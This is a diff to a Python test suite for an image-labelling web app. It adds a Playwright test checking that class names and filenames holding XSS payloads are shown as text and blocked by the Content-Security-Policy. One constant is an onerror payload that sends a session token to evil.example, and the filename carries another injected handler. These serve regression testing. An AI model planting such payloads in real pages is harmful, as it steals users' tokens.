@@ -337,8 +337,19 @@ def chromium():
 
     with sync_playwright() as p:
         browser = p.chromium.launch(executable_path="/usr/bin/chromium", args=BROWSER_FLAGS)
-        yield browser
+        yield Tabs(browser)
         browser.close()
+
+
+class Tabs:
+    """The browser, whose new tabs set the page's policy aside: Playwright's wait_for_function evaluates
+    its text in the page, which the policy forbids. The policy's own test opens a tab of .browser."""
+
+    def __init__(self, browser):
+        self.browser = browser
+
+    def new_page(self, **options):
+        return self.browser.new_page(**{"bypass_csp": True, **options})
 
 
 def click_on_the_page(page):
@@ -515,3 +526,43 @@ def test_label_page_in_a_browser_blind_mode_labels_point_after_point(chromium, l
     assert [u for u in asked if "/map" in u or "/suggestions" in u or "/change" in u] == [base + "/change"]
     assert sample.read_text() == "image,x,y,class,sample\nsub/wide.png,80,5,,2\nsquare.jpg,10,20,Road,1\n" \
         "square.jpg,50,60,,3\n"
+
+
+# a name that runs script where a page inserts it as HTML: it sets a flag and sends the token elsewhere
+HOSTILE = "<img src=x onerror=\"window.ran = 1; fetch('http://evil.example/' + TOKEN)\">"
+
+
+def test_label_page_in_a_browser_shows_names_as_text_and_runs_no_other_script(chromium, tmp_path):
+    root = tmp_path / "photos"
+    root.mkdir()
+    image = "<img src=y onerror=window.ran=2>.png"
+    Image.new("RGB", (40, 30)).save(root / image)
+    classes = [{"title": HOSTILE, "color": "#FF0000"}, {"title": "Road", "color": "#808080"}]
+    (root / "classes.json").write_text(json.dumps({"classes": classes}))
+    points = tmp_path / "clicks.csv"
+    with serving(root, "--points", points) as (base, server):
+        with urllib.request.urlopen(base + "/", timeout=30) as r:
+            policy = r.headers["Content-Security-Policy"]
+        assert "script-src 'self';" in policy and "frame-ancestors 'none'" in policy
+        page, asked, said = chromium.browser.new_page(), [], []  # the policy as a person's browser keeps it
+        page.on("request", lambda r: asked.append(r.url))
+        page.on("console", lambda m: said.append(m.text))
+        for _ in range(2):  # as it opens; then with a click of that class in the file, after a reload
+            page.goto(f"{base}/#token={server.token}")
+            page.wait_for_selector("#classes .class")
+            page.wait_for_selector("#title:not(:empty)")
+            if not points.exists():
+                page.keyboard.press("1")
+                box = page.locator("canvas").bounding_box()
+                page.mouse.click(box["x"] + box["width"] / 2, box["y"] + box["height"] / 2)
+                page.wait_for_selector("#status:not(:empty)")
+        assert page.text_content("#classes").startswith(f"1 {HOSTILE} (1 / 1)")  # as text
+        assert image in page.text_content("#title") and page.evaluate("document.images.length") == 0
+        assert list(csv.reader(open(points)))[1] == [image, "20", "15", HOSTILE]
+        # and HTML that would reach the page runs nothing: the policy refuses its inline handler
+        page.evaluate("document.body.insertAdjacentHTML('beforeend', '<img src=z onerror=\"window.ran=3\">')")
+        page.wait_for_timeout(500)
+        assert page.evaluate("window.ran") is None
+        assert any("Content Security Policy" in line for line in said)
+        page.close()
+    assert asked and all(url.startswith(base + "/") for url in asked)  # nothing left for another site
